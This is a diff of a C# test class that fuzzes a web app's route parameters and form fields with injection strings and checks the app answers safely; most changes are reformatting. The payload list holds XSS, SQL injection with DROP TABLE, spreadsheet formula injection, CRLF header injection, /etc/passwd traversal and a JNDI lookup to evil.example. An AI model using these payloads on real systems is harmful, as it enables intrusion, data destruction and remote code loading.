@@ -19,12 +19,16 @@ using Microsoft.Extensions.Logging;
 namespace CountryProvider.Topology.Tests.Security;
 
 /// <summary>
-/// Texts that mean something to a browser, a database, a spreadsheet, a log or a terminal, in everything that can be sent: each parameter of
+/// Texts that mean something to a browser, a database, a spreadsheet, a log or a terminal, in everything that can be sent: each parameter
+/// of
 /// each route, each field of each body and of each form, found out from the running program.
 /// </summary>
 public sealed class InjectionTests
 {
-    /// <summary>The environment variable that, set to 1, has every text tried everywhere. Without it a name gets all of them, and everything else some.</summary>
+    /// <summary>
+    /// The environment variable that, set to 1, has every text tried everywhere. Without it a name gets all of them, and everything else
+    /// some.
+    /// </summary>
     private const string StepVariable = "COUNTRY_PROVIDER_INJECTION_STEP";
 
     private const string Marker = "injected";
@@ -35,16 +39,45 @@ public sealed class InjectionTests
 
     private static readonly string[] _hostile =
     [
-        $"<script>{Marker}()</script>", $"\"><img src=x onerror={Marker}()>", $"' onmouseover='{Marker}()", $"</title><svg onload={Marker}()>", $"javascript:{Marker}()", $"{{{{{Marker}}}}}@({Marker})",
-        "'; DROP TABLE entries; --", "' OR '1'='1", "\" OR 1=1 --", "%' ESCAPE '!' --", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", $"x\r\nSet-Cookie: {Marker}=1", $"x\nforged: {Marker}", "x\u2028y",
-        "\u202Egnp.exe", "\u2066x", "\u0000", "\u001b[31mred", "%0d%0aLocation:%20//evil.example", "../../../etc/passwd", "${jndi:ldap://evil.example/x}", "{0}{1}", "\uFFFE",
+        $"<script>{Marker}()</script>",
+        $"\"><img src=x onerror={Marker}()>",
+        $"' onmouseover='{Marker}()",
+        $"</title><svg onload={Marker}()>",
+        $"javascript:{Marker}()",
+        $"{{{{{Marker}}}}}@({Marker})",
+        "'; DROP TABLE entries; --",
+        "' OR '1'='1",
+        "\" OR 1=1 --",
+        "%' ESCAPE '!' --",
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(1)",
+        $"x\r\nSet-Cookie: {Marker}=1",
+        $"x\nforged: {Marker}",
+        "x\u2028y",
+        "\u202Egnp.exe",
+        "\u2066x",
+        "\u0000",
+        "\u001b[31mred",
+        "%0d%0aLocation:%20//evil.example",
+        "../../../etc/passwd",
+        "${jndi:ldap://evil.example/x}",
+        "{0}{1}",
+        "\uFFFE",
     ];
 
     [Fact]
     public async Task One_process_takes_them_as_text_or_refuses_them()
     {
         using var log = new LogRecorder();
-        await using var host = await TestHost.StartAsync(Modules.All, services => services.AddLogging(logging => logging.AddProvider(log)), "Seed:Data=demo", "Logging:LogLevel:Default=None", "Logging:LogLevel:CountryProvider=Trace");
+        await using var host = await TestHost.StartAsync(
+            Modules.All,
+            services => services.AddLogging(logging => logging.AddProvider(log)),
+            "Seed:Data=demo",
+            "Logging:LogLevel:Default=None",
+            "Logging:LogLevel:CountryProvider=Trace"
+        );
         await AttackAsync(host, host.Client, _hostile);
         log.Lines.ShouldAllBe(line => !line.Contains('\n') && !line.Contains('\u001b'));
     }
@@ -61,7 +94,11 @@ public sealed class InjectionTests
     public async Task What_goes_wrong_is_logged_in_one_line()
     {
         using var log = new LogRecorder();
-        await using var host = await TestHost.StartAsync([.. Modules.All, new Throwing()], services => services.AddLogging(logging => logging.AddProvider(log)), "Logging:LogLevel:Default=Error");
+        await using var host = await TestHost.StartAsync(
+            [.. Modules.All, new Throwing()],
+            services => services.AddLogging(logging => logging.AddProvider(log)),
+            "Logging:LogLevel:Default=Error"
+        );
 
         var failed = 0;
         foreach (var text in _hostile)
@@ -90,7 +127,12 @@ public sealed class InjectionTests
             ];
             foreach (var (path, body, status) in requests)
             {
-                using var answer = await host.Client.SendRawAsync(body is null ? "GET" : "POST", path, body, ("Sec-Fetch-Site", "same-origin"));
+                using var answer = await host.Client.SendRawAsync(
+                    body is null ? "GET" : "POST",
+                    path,
+                    body,
+                    ("Sec-Fetch-Site", "same-origin")
+                );
                 var content = await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
                 var what = $"{path} with {JsonSerializer.Serialize(text)}: {(int)answer.StatusCode} {content}";
                 ((int)answer.StatusCode).ShouldBe(status, what);
@@ -98,8 +140,12 @@ public sealed class InjectionTests
                 await ShouldBeHarmlessAsync(answer, content, what);
                 if (body is not null && !text.Any(char.IsControl))
                 {
-                    var page = await BrowsingContext.New(Configuration.Default).OpenAsync(response => response.Content(content), TestContext.Current.CancellationToken);
-                    var carried = page.QuerySelectorAll<IHtmlInputElement>("main input[type=hidden]").Select(input => (input.Name, input.Value)).ToList();
+                    var page = await BrowsingContext
+                        .New(Configuration.Default)
+                        .OpenAsync(response => response.Content(content), TestContext.Current.CancellationToken);
+                    var carried = page.QuerySelectorAll<IHtmlInputElement>("main input[type=hidden]")
+                        .Select(input => (input.Name, input.Value))
+                        .ToList();
                     carried.ShouldContain((text, "value"), what);
                     carried.ShouldContain(("name", text), what);
                 }
@@ -122,7 +168,10 @@ public sealed class InjectionTests
         {
             foreach (var method in endpoint.Methods())
             {
-                foreach (var (path, body, text, isName) in Attacks(endpoint, forms, hostile).Where((attack, index) => attack.IsName || index % _step == 0))
+                foreach (
+                    var (path, body, text, isName) in Attacks(endpoint, forms, hostile)
+                        .Where((attack, index) => attack.IsName || index % _step == 0)
+                )
                 {
                     using var answer = await client.SendRawAsync(method, path, body?.Invoke(), ("Sec-Fetch-Site", "same-origin"));
                     var content = await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
@@ -130,11 +179,20 @@ public sealed class InjectionTests
                     attacks++;
 
                     ((int)answer.StatusCode).ShouldBeLessThan(500, what);
-                    answer.Headers.Concat(answer.Content.Headers).ShouldAllBe(header => header.Key != "Set-Cookie" && header.Value.All(value => !value.Any(char.IsControl)), what);
+                    answer
+                        .Headers.Concat(answer.Content.Headers)
+                        .ShouldAllBe(header => header.Key != "Set-Cookie" && header.Value.All(value => !value.Any(char.IsControl)), what);
                     (answer.Headers.Location?.OriginalString ?? "/").ShouldStartWith("/", Case.Sensitive, what);
                     (answer.Headers.Location?.OriginalString ?? "/").ShouldNotStartWith("//", Case.Sensitive, what);
                     await ShouldBeHarmlessAsync(answer, content, what);
-                    if (isName && answer.StatusCode is HttpStatusCode.OK or HttpStatusCode.Created or HttpStatusCode.NoContent or HttpStatusCode.SeeOther)
+                    if (
+                        isName
+                        && answer.StatusCode
+                            is HttpStatusCode.OK
+                                or HttpStatusCode.Created
+                                or HttpStatusCode.NoContent
+                                or HttpStatusCode.SeeOther
+                    )
                     {
                         accepted.Add(text);
                     }
@@ -144,7 +202,11 @@ public sealed class InjectionTests
 
         attacks.ShouldBeGreaterThan(20 * hostile.Length);
         accepted.ShouldNotBeEmpty();
-        foreach (var text in hostile.Where(text => text.Any(char.IsControl) || text.Any(character => character is '\u2028' or '\u202E' or '\u2066' or '\uFFFE')))
+        foreach (
+            var text in hostile.Where(text =>
+                text.Any(char.IsControl) || text.Any(character => character is '\u2028' or '\u202E' or '\u2066' or '\uFFFE')
+            )
+        )
         {
             accepted.ShouldNotContain(text);
         }
@@ -154,7 +216,11 @@ public sealed class InjectionTests
         {
             var names = (await client.Get($"{entries.V2}?retired=true")).ShouldBe(200).All("name").ToList();
             var v1 = (await client.Get(entries.V1)).ShouldBe(200).All("name").ToList();
-            foreach (var text in accepted.Distinct().Where(text => text.Contains(Marker) || text.Contains("DROP") || text[0] is '=' or '+' or '@'))
+            foreach (
+                var text in accepted
+                    .Distinct()
+                    .Where(text => text.Contains(Marker) || text.Contains("DROP") || text[0] is '=' or '+' or '@')
+            )
             {
                 names.ShouldContain(text);
                 v1.ShouldContain(text);
@@ -162,7 +228,11 @@ public sealed class InjectionTests
 
             foreach (var text in accepted.Distinct())
             {
-                (await client.Get($"{entries.V2}?retired=true&search={Uri.EscapeDataString(text)}")).ShouldBe(200).All("name").Count().ShouldBeLessThan(names.Count);
+                (await client.Get($"{entries.V2}?retired=true&search={Uri.EscapeDataString(text)}"))
+                    .ShouldBe(200)
+                    .All("name")
+                    .Count()
+                    .ShouldBeLessThan(names.Count);
             }
 
             for (var page = 1; page < 20; page++)
@@ -176,7 +246,11 @@ public sealed class InjectionTests
     }
 
     // Each parameter and each field in turn, with what is right in all the others.
-    private static IEnumerable<(string Path, Func<HttpContent>? Body, string Text, bool IsName)> Attacks(RouteEndpoint endpoint, IReadOnlyList<string> formFields, string[] hostile)
+    private static IEnumerable<(string Path, Func<HttpContent>? Body, string Text, bool IsName)> Attacks(
+        RouteEndpoint endpoint,
+        IReadOnlyList<string> formFields,
+        string[] hostile
+    )
     {
         var code = endpoint.Writes() ? null : "GER";
         foreach (var text in hostile)
@@ -204,24 +278,47 @@ public sealed class InjectionTests
             {
                 foreach (var field in formFields)
                 {
-                    var values = formFields.Select(name => (name, name == field ? text : name is "name" ? "Anything" : name is "version" ? "1" : NextCode())).ToList();
+                    var values = formFields
+                        .Select(name =>
+                            (
+                                name,
+                                name == field ? text
+                                : name is "name" ? "Anything"
+                                : name is "version" ? "1"
+                                : NextCode()
+                            )
+                        )
+                        .ToList();
                     yield return (path, () => Endpoints.Form(values), text, false);
                 }
             }
         }
     }
 
-    private static IEnumerable<string> Fields(Type type, string prefix = "") => type.GetProperties().Where(property => property.Name != "EqualityContract").SelectMany(property =>
-        property.PropertyType == typeof(string) ? [$"{prefix}{property.Name}"] : property.PropertyType.IsClass ? Fields(property.PropertyType, $"{prefix}{property.Name}.") : []);
+    private static IEnumerable<string> Fields(Type type, string prefix = "") =>
+        type.GetProperties()
+            .Where(property => property.Name != "EqualityContract")
+            .SelectMany(property =>
+                property.PropertyType == typeof(string) ? [$"{prefix}{property.Name}"]
+                : property.PropertyType.IsClass ? Fields(property.PropertyType, $"{prefix}{property.Name}.")
+                : []
+            );
 
     private static JsonObject Body(Type type, string prefix, string attacked, string text)
     {
         var json = new JsonObject();
         foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance))
         {
-            json[JsonNamingPolicy.CamelCase.ConvertName(property.Name)] = property.PropertyType == typeof(string)
-                ? prefix + property.Name == attacked ? text : property.Name == "Name" ? "Anything" : NextCode()
-                : property.PropertyType.IsClass ? Body(property.PropertyType, $"{prefix}{property.Name}.", attacked, text) : null;
+            json[JsonNamingPolicy.CamelCase.ConvertName(property.Name)] =
+                property.PropertyType == typeof(string)
+                    ? prefix + property.Name == attacked
+                        ? text
+                        : property.Name == "Name"
+                            ? "Anything"
+                            : NextCode()
+                    : property.PropertyType.IsClass
+                        ? Body(property.PropertyType, $"{prefix}{property.Name}.", attacked, text)
+                        : null;
         }
 
         return json;
@@ -232,7 +329,9 @@ public sealed class InjectionTests
         var fields = new HashSet<string>();
         foreach (var path in Modules.All.Select(module => "/" + module.Navigation.Path).Concat(["/countries/GER", "/links/GER"]))
         {
-            fields.UnionWith((await client.Open(path)).QuerySelectorAll("form[method=post] [name]").Select(element => element.GetAttribute("name")!));
+            fields.UnionWith(
+                (await client.Open(path)).QuerySelectorAll("form[method=post] [name]").Select(element => element.GetAttribute("name")!)
+            );
         }
 
         fields.IsSupersetOf(["code", "name", "names", "currency-0", "language-0"]).ShouldBeTrue();
@@ -244,13 +343,14 @@ public sealed class InjectionTests
         switch (answer.Content.Headers.ContentType?.MediaType)
         {
             case "text/html":
-                await ShouldBeHarmlessAsync((IHtmlDocument)await BrowsingContext.New(Configuration.Default).OpenAsync(response => response.Content(content)), what);
+                await ShouldBeHarmlessAsync(
+                    (IHtmlDocument)await BrowsingContext.New(Configuration.Default).OpenAsync(response => response.Content(content)),
+                    what
+                );
                 break;
             case "application/json" or "application/problem+json":
                 content.ShouldNotContain("<script", Case.Insensitive, what);
-                using (JsonDocument.Parse(content))
-                {
-                }
+                using (JsonDocument.Parse(content)) { }
 
                 break;
             case "text/plain":
